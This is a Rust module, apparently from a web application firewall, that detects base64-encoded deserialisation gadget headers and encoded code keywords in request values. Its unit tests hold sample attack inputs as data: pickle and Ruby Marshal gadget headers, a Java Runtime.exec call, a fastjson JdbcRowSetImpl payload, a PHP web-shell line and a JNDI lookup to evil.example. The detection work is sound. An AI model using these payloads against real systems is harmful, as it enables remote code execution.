//! Serialised objects carried in base64: the start of each base64 run is decoded and compared
//! with the magic bytes of the object formats that deserialisation gadgets travel in.
//!
//! Opaque credentials (session tokens, presigned-upload policies, SAML responses, signed
//! cookies) are long base64 too, and a model that only sees character statistics cannot tell a
//! 900-character STS session token from a 900-character Java serialisation stream. The decoded
//! header can: a gadget chain must start with its format's magic, a random token almost never
//! does (each format below needs 3 to 9 fixed bytes).
//!
//! Code hidden in base64 (a class name, a PHP call, a JNDI lookup that the application decodes
//! before use) is found by decoding the start of each longer run and counting the code
//! families' keywords in it ([`decoded_code_keywords`]).

use super::keywords;

/// Shortest base64 run that is decoded (12 characters give the 9 bytes .NET's header needs).
const MIN_RUN: usize = 12;
/// Characters decoded from the start of a run (12 bytes).
const HEAD: usize = 16;

/// Whether a base64 run (standard or URL-safe alphabet) in `text` decodes to the header of a
/// serialised object: Java (`AC ED 00 05`), .NET BinaryFormatter, Python pickle (protocol 2 or
/// more), Ruby Marshal, or PHP `serialize()` output. Linear in `text`; reads at most
/// [`HEAD`] characters of each run.
pub fn has_serialized_object(text: &str) -> bool {
    runs(text.as_bytes(), MIN_RUN).any(|run| {
        let (head, len) = decode_head(run);
        is_object_header(&head[..len])
    })
}

/// Shortest base64 run whose decoded text is searched for keywords (12 bytes of text).
const MIN_KEYWORD_RUN: usize = 16;
/// Characters of a run decoded for the keyword search.
const KEYWORD_CHARS: usize = 1024;
/// Characters decoded for the keyword search over all runs of one value.
const KEYWORD_BUDGET: usize = 4096;

/// Distinct keywords of the code families ([`keywords::DECODED_FAMILIES`]: Java, PHP,
/// serialised objects, JNDI) in the decoded text of the base64 runs of `text` (runs of 16
/// characters or more, the first 1,024 characters of each, 4,096 in all). Random tokens decode
/// to bytes that almost never spell a keyword of four letters or more, which is all this counts.
pub fn decoded_code_keywords(text: &[u8]) -> usize {
    let mut budget = KEYWORD_BUDGET;
    let mut found = keywords::Found::default();
    for run in runs(text, MIN_KEYWORD_RUN) {
        if budget == 0 {
            break;
        }
        let take = run.len().min(KEYWORD_CHARS).min(budget) / 4 * 4;
        budget -= take;
        let mut decoded = [0u8; KEYWORD_CHARS / 4 * 3];
        let len = decode_into(&run[..take], &mut decoded);
        decoded[..len].make_ascii_lowercase();
        found.mark_decoded(&decoded[..len]);
    }
    found.decoded_count()
}

/// The runs of base64 characters (either alphabet) of `min` characters or more in `bytes`.
fn runs(bytes: &[u8], min: usize) -> impl Iterator<Item = &[u8]> {
    bytes
        .split(|&b| sextet(b).is_none())
        .filter(move |run| run.len() >= min)
}

/// The 6-bit value of a base64 character of either alphabet.
fn sextet(b: u8) -> Option<u8> {
    match b {
        b'A'..=b'Z' => Some(b - b'A'),
        b'a'..=b'z' => Some(b - b'a' + 26),
        b'0'..=b'9' => Some(b - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// The bytes of the first [`HEAD`] characters of `run` (all base64 characters), and how many
/// of them there are (whole quads only); no allocation on the request path.
fn decode_head(run: &[u8]) -> ([u8; HEAD / 4 * 3], usize) {
    let mut out = [0u8; HEAD / 4 * 3];
    let len = decode_into(&run[..run.len().min(HEAD)], &mut out);
    (out, len)
}

/// Decodes the whole quads of `chars` (base64 characters of either alphabet) into `out`, as
/// many as fit, and returns the number of bytes written.
fn decode_into(chars: &[u8], out: &mut [u8]) -> usize {
    let mut len = 0;
    for (quad, bytes) in chars.chunks_exact(4).zip(out.chunks_exact_mut(3)) {
        let n = quad
            .iter()
            .fold(0u32, |n, &c| (n << 6) | u32::from(sextet(c).unwrap_or(0)));
        bytes.copy_from_slice(&[(n >> 16) as u8, (n >> 8) as u8, n as u8]);
        len += 3;
    }
    len
}

fn is_object_header(head: &[u8]) -> bool {
    match head {
        // Java serialisation stream: STREAM_MAGIC, STREAM_VERSION 5.
        [0xAC, 0xED, 0x00, 0x05, ..] => true,
        // .NET BinaryFormatter: SerializedStreamHeader record, root id 1, header id -1.
        [0x00, 0x01, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, ..] => true,
        // pickle protocol 4/5: PROTO n, FRAME; protocol 2/3: PROTO n and an opcode that starts
        // an object (GLOBAL, MARK, EMPTY_DICT, EMPTY_LIST, SHORT_BINUNICODE, ...).
        [0x80, 4 | 5, 0x95, ..] => true,
        [0x80, 2 | 3, op, ..] => b"c(}]X\x8c\x8a)qK".contains(op),
        // Ruby Marshal 4.8 and the first type byte of an object.
        [0x04, 0x08, t, ..] => b"[{oIu\"cmSl:;@TF0iU".contains(t),
        _ => is_php_serialized(head),
    }
}

/// PHP `serialize()`: `O:<len>:"`, `a:<n>:{`, `C:<len>:"`.
fn is_php_serialized(head: &[u8]) -> bool {
    let [kind, b':', rest @ ..] = head else {
        return false;
    };
    let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
    if digits == 0 || digits >= rest.len() {
        return false;
    }
    matches!(
        (kind, rest.get(digits), rest.get(digits + 1)),
        (b'O' | b'C', Some(b':'), Some(b'"')) | (b'a', Some(b':'), Some(b'{'))
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64(bytes: &[u8]) -> String {
        const ALPHABET: &[u8; 64] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let mut n = 0u32;
            for i in 0..3 {
                n = (n << 8) | u32::from(*chunk.get(i).unwrap_or(&0));
            }
            for i in 0..=chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            }
        }
        out
    }

    #[test]
    fn object_streams_in_base64_are_found() {
        let java = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap";
        assert!(b64(java).starts_with("rO0AB"));
        for object in [
            &java[..],
            b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02",
            b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system",
            b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00id",
            b"\x04\x08o:\x15Gem::Requirement\x06:\x0b@requirements",
            b"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            b"a:2:{i:0;s:3:\"foo\";i:1;s:3:\"bar\";}",
        ] {
            let encoded = b64(object);
            assert!(has_serialized_object(&encoded), "{encoded}");
            assert!(has_serialized_object(&format!("data={encoded}&x=1")));
            // URL-safe alphabet, as in cookies and query strings.
            let url_safe = encoded.replace('+', "-").replace('/', "_");
            assert!(has_serialized_object(&url_safe), "{url_safe}");
        }
    }

    #[test]
    fn tokens_and_text_are_not_objects() {
        for text in [
            "",
            "hello world",
            "rO0AB",
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
            "IQoJb3JpZ2luX2VjEFAaCXVzLWVhc3QtMSJHMEUCIQD4x2a8J1mK9vTRqW3e5nFz",
            "AKIAIOSFODNN7EXAMPLE/20261206/us-east-1/s3/aws4_request",
            "eyJleHBpcmF0aW9uIjoiMjAyNi0xMi0wN1QwMDowMDowMFoiLCJjb25kaXRpb25zIjpbXX0=",
            "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg==",
            "0123456789abcdef0123456789abcdef",
            "Tzo4OnN0ZENsYXNz",
        ] {
            assert!(!has_serialized_object(text), "{text}");
        }
    }

    #[test]
    fn code_in_base64_is_counted() {
        for (text, at_least) in [
            ("java.lang.Runtime.getRuntime().exec(\"id\")", 2),
            (
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"x\"}",
                2,
            ),
            ("<?php system($_GET['c']); ?>", 3),
            ("${jndi:ldap://evil.example/a}", 2),
        ] {
            let encoded = b64(text.as_bytes());
            assert!(
                decoded_code_keywords(encoded.as_bytes()) >= at_least,
                "{text}"
            );
            let url_safe = encoded.replace('+', "-").replace('/', "_");
            assert!(decoded_code_keywords(format!("v={url_safe}").as_bytes()) >= at_least);
            // The plain text itself is no base64 run.
            assert_eq!(decoded_code_keywords(text.as_bytes()), 0, "{text}");
        }
    }

    #[test]
    fn tokens_and_encoded_prose_have_no_code_keywords() {
        for text in [
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
            "IQoJb3JpZ2luX2VjEFAaCXVzLWVhc3QtMSJHMEUCIQD4x2a8J1mK9vTRqW3e5nFz",
            "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg==",
            &b64(b"Hi team, the quarterly report is attached. Regards, Ana"),
        ] {
            assert_eq!(decoded_code_keywords(text.as_bytes()), 0, "{text}");
        }
    }

    /// How many of `n` pseudo-random base64 tokens of `len` bytes `found` accepts.
    fn random_token_hits(seed: u64, n: usize, len: usize, found: impl Fn(&str) -> bool) -> usize {
        let mut state = seed;
        let mut byte = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        };
        (0..n)
            .filter(|_| {
                let token: Vec<u8> = (0..len).map(|_| byte()).collect();
                found(&b64(&token))
            })
            .count()
    }

    #[test]
    fn random_tokens_rarely_spell_code_keywords() {
        let hits = random_token_hits(0x2545_f491_4f6c_dd1d, 20_000, 96, |t| {
            decoded_code_keywords(t.as_bytes()) > 0
        });
        assert!(hits <= 2, "{hits} random tokens spelled a code keyword");
    }

    #[test]
    fn random_tokens_rarely_match() {
        // Every format needs at least three fixed bytes at the run's start: over 200,000
        // pseudo-random 24-byte tokens, none should match.
        let hits = random_token_hits(0x9e37_79b9_7f4a_7c15, 200_000, 24, has_serialized_object);
        assert!(hits <= 2, "{hits} random tokens read as objects");
    }
}
